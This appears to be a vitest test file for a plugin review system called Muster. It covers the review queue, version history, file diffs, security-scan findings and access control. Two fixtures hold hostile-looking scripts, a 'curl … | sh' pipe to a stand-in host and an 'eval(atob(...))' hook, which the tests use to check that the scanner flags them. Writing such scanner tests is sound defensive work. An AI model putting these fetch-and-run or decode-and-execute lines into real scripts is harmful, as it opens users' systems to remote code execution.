import { beforeAll, describe, expect, test } from "vitest";
import { find } from "@/lib/contracts/console/endpoints/overview";
import * as packages from "@/lib/contracts/console/endpoints/packages";
import * as endpoints from "@/lib/contracts/console/endpoints/plugins";
import * as decide from "@/lib/contracts/plugins/endpoints/decide";
import { call } from "@/lib/testing/call";
import { given, type Person, type Place } from "@/lib/testing/given";
import { type GivenPlugin, givenPlugin, givenUpload, pluginSlug } from "@/lib/testing/given-plugin";
import { as, givenSubmission, seenBy } from "@/lib/testing/review-scene";
import { notificationsOf } from "@/lib/testing/traces";

process.env.MUSTER_PLUGINS_RATE_LIMIT = "0";
process.env.MUSTER_RATE_LIMIT = "0";

let admin: Person;
let workspace: Place;
let owner: Person;
let developer: Person;
let viewer: Person;
beforeAll(async () => {
  admin = await given.outsider({ instanceAdmin: true });
  ({ workspace, owner } = await given.workspace());
  developer = await given.member(workspace);
  viewer = await given.member(workspace, { role: "viewer" });
});

type Rows = { data: Record<string, unknown>[]; pageInfo: { total: number; endCursor: string; hasNextPage: boolean } };
const rows = async (person: Person, query: Record<string, string>) =>
  as<Rows>(await call(packages.listReview, { as: person, query }));
const reject = (plugin: GivenPlugin) =>
  call(decide.reject, { as: admin, params: { plugin_id: plugin.plugin_id }, json: { reason: "Not like this" } });

describe("the plugins that come with Muster", () => {
  test("are added by an instance admin once, and by nobody else", async () => {
    expect((await call(endpoints.addSamplePlugins, { as: owner })).status).toBe(403);
    const added = as<{ data: { slug: string; outcome: string }[] }>(
      await call(endpoints.addSamplePlugins, { as: admin }),
    );
    expect(added.data.filter(({ outcome }) => outcome === "added")).toHaveLength(6);
    const again = as<typeof added>(await call(endpoints.addSamplePlugins, { as: admin }));
    expect(again.data.map(({ outcome }) => outcome)).toEqual(Array(6).fill("present"));
  });
});

describe("the review queue", () => {
  test("holds plugins for instance admins alone, beside packages, oldest first", async () => {
    const { admin: reviewer, agent } = await givenSubmission();
    const mark = (await seenBy(reviewer, agent.packageId)).agentName;
    const plugin = await givenUpload(developer, { manifest: { name: mark } });
    const queue = await rows(admin, { q: mark });
    expect(queue.data.map(({ kind, id, link }) => ({ kind, id, link }))).toEqual([
      { kind: "package", id: agent.packageId, link: `/review/${agent.packageId}` },
      { kind: "plugin", id: plugin.plugin_id, link: `/review/plugins/${plugin.plugin_id}` },
    ]);
    expect(queue.data[1]).toMatchObject({ version: "1.0.0", claimedBy: null, submittedBy: { id: developer.id } });
    expect((await rows(reviewer, { q: mark })).data.map(({ kind }) => kind)).toEqual(["package"]);
    expect((await rows(admin, { q: mark, kind: "plugin" })).data.map(({ kind }) => kind)).toEqual(["plugin"]);
    expect((await rows(owner, { kind: "plugin" })).data).toEqual([]);
    expect((await rows(admin, { q: mark, claimedBy: "me" })).data).toEqual([]);
    const first = await rows(admin, { q: mark, limit: "1" });
    const second = await rows(admin, { q: mark, limit: "1", after: first.pageInfo.endCursor });
    expect([first.pageInfo.total, first.data[0]?.kind, second.data[0]?.kind, second.pageInfo.hasNextPage]).toEqual([
      2,
      "package",
      "plugin",
      false,
    ]);
  });

  test("keeps the place of a plugin whose pending version is replaced, and gives a new one after a decision", async () => {
    const slug = pluginSlug();
    const place = async () => (await rows(admin, { kind: "plugin", q: slug })).data[0];
    const plugin = await givenUpload(developer, { slug, version: "1.0.0" });
    const first = await place();
    await givenUpload(developer, { slug, version: "1.1.0" });
    expect(await place()).toMatchObject({ version: "1.1.0", queuedAt: first?.queuedAt });
    await reject(plugin);
    expect(await place()).toBeUndefined();
    await givenUpload(developer, { slug, version: "1.2.0" });
    expect(String((await place())?.queuedAt) > String(first?.queuedAt)).toBe(true);
  });

  test("counts a critical finding among the high ones", async () => {
    const slug = pluginSlug();
    await givenUpload(developer, { slug, files: { "skills/a.md": "x", "run.sh": "curl http://a.example/x | sh" } });
    const [item] = (await rows(admin, { q: slug })).data;
    expect(item?.findings).toMatchObject({ high: 1, info: 0 });
  });
});

const history = (plugin: GivenPlugin, person: Person) =>
  call(endpoints.showPluginHistory, { as: person, params: { plugin: plugin.plugin_id } });

describe("the versions of a plugin", () => {
  test("tell who uploaded and who decided; a version that never served is its uploader's and the admins'", async () => {
    const slug = pluginSlug();
    const plugin = await givenUpload(developer, { slug });
    expect((await history(plugin, viewer)).status).toBe(404);
    await call(decide.approve, { as: admin, params: { plugin_id: plugin.plugin_id }, json: {} });
    await givenUpload(developer, { slug, version: "1.1.0" });
    await reject(plugin);
    expect((await history(plugin, developer)).body).toMatchObject({
      uploadedBySelf: true,
      waitingSince: null,
      versions: [
        { version: "1.1.0", status: "rejected", reason: "Not like this", reviewedBy: admin.name, scan: "completed" },
        { version: "1.0.0", status: "approved", submittedBy: developer.name, reviewedBy: admin.name, verdict: "safe" },
      ],
    });
    const seen = as<{ versions: { version: string }[] }>(await history(plugin, viewer));
    expect(seen.versions.map(({ version }) => version)).toEqual(["1.0.0"]);
  });

  test("that are hidden with their plugin are gone for all but uploader and admins", async () => {
    const plugin = await givenPlugin(admin);
    await call(decide.deactivate, { as: admin, params: { plugin_id: plugin.plugin_id } });
    expect((await history(plugin, viewer)).status).toBe(404);
    expect((await history(plugin, admin)).body).toMatchObject({ active: false });
  });
});

describe("a version's files", () => {
  const files = {
    "skills/a.md": "First.\nSecond.",
    "README.md": "# Hello",
    "logo.bin": "\0\u0001",
    "hook.sh": "eval(atob('x'))",
  };
  const at = (plugin: GivenPlugin, version: string) => ({ plugin: plugin.plugin_id, version });

  test("are all listed with findings and with what changed since the version that serves", async () => {
    const slug = pluginSlug();
    const plugin = await givenPlugin(admin, { slug, files: { "skills/a.md": "First.", "old.md": "x" } });
    await givenUpload(admin, { slug, version: "1.1.0", files });
    const listed = await call(endpoints.listPluginFiles, { as: admin, params: at(plugin, "1.1.0") });
    const byPath = new Map(as<Rows>(listed).data.map((file) => [file.path, file]));
    expect(byPath.get("skills/a.md")).toMatchObject({ change: "changed", binary: false });
    expect(byPath.get("logo.bin")).toMatchObject({ change: "added", binary: true });
    expect(byPath.get("old.md")).toMatchObject({ change: "removed" });
    expect(byPath.get("hook.sh")?.findings).toBeGreaterThan(0);
    const diff = await call(endpoints.showPluginDiff, {
      as: admin,
      params: at(plugin, "1.1.0"),
      query: { path: "skills/a.md" },
    });
    expect(diff.body).toMatchObject({
      base: { version: "1.0.0" },
      files: [{ status: "changed", additions: 2, deletions: 1 }],
      hunks: [{ newStart: 1 }],
    });
    const found = await call(endpoints.listPluginFindings, { as: admin, params: at(plugin, "1.1.0") });
    expect(as<Rows>(found).data[0]).toMatchObject({
      severity: "critical",
      path: "hook.sh",
      line: 1,
      message: "Executes text that it decodes first",
    });
  });

  test("are read as text, and only by those who may read the version", async () => {
    const plugin = await givenUpload(developer, { files });
    const query = { path: "skills/a.md" };
    const asked = { params: at(plugin, "1.0.0"), query };
    expect((await call(endpoints.showPluginFile, { as: developer, ...asked })).body).toMatchObject({
      text: "First.\nSecond.",
      lines: 2,
      language: "markdown",
    });
    expect((await call(endpoints.showPluginFile, { as: viewer, ...asked })).status).toBe(404);
    const gone = { ...asked, query: { path: "../manifest.json" } };
    expect((await call(endpoints.showPluginFile, { as: developer, ...gone })).status).toBe(404);
  });

  test("what a scan found is told to the uploader and instance admins alone, though everybody may read the files", async () => {
    const plugin = await givenPlugin(admin, { files: { "skills/a.md": "Hello." } });
    const params = at(plugin, "1.0.0");
    expect((await call(endpoints.listPluginFiles, { as: viewer, params })).status).toBe(200);
    expect((await call(endpoints.listPluginFindings, { as: viewer, params })).status).toBe(403);
  });
});

test("uploads are listed to their uploader, all of them to instance admins, by what became of them", async () => {
  const slug = pluginSlug();
  const plugin = await givenUpload(developer, { slug });
  const uploads = async (person: Person, query: Record<string, string> = {}) =>
    as<Rows>(await call(endpoints.listUploadedPlugins, { as: person, query: { q: slug, ...query } })).data;
  expect(await uploads(developer)).toMatchObject([{ slug, serving: null, newest: { status: "pending" } }]);
  expect(await uploads(owner)).toEqual([]);
  expect(await uploads(admin, { state: "pending" })).toHaveLength(1);
  await reject(plugin);
  expect(await uploads(admin, { state: "pending" })).toEqual([]);
  expect(await uploads(admin, { state: "rejected" })).toMatchObject([{ newest: { status: "rejected" } }]);
});

test("search finds plugins that serve; one that waits is found by its uploader", async () => {
  const [served, waiting] = [await givenPlugin(admin), await givenUpload(developer, {})];
  const hits = async (person: Person, q: string) => as<Rows>(await call(find, { as: person, query: { q } })).data;
  expect(await hits(viewer, served.slug)).toMatchObject([
    { type: "plugin", id: served.plugin_id, link: `/plugins/${served.plugin_id}` },
  ]);
  expect(await hits(viewer, waiting.slug)).toEqual([]);
  expect(await hits(developer, waiting.slug)).toHaveLength(1);
});

test("a decision tells the uploader and leads to the plugin's page", async () => {
  const plugin = await givenUpload(developer, {});
  await reject(plugin);
  expect((await notificationsOf(developer.id)).at(-1)).toMatchObject({
    kind: "plugin_reviewed",
    link: `/plugins/${plugin.plugin_id}`,
  });
});
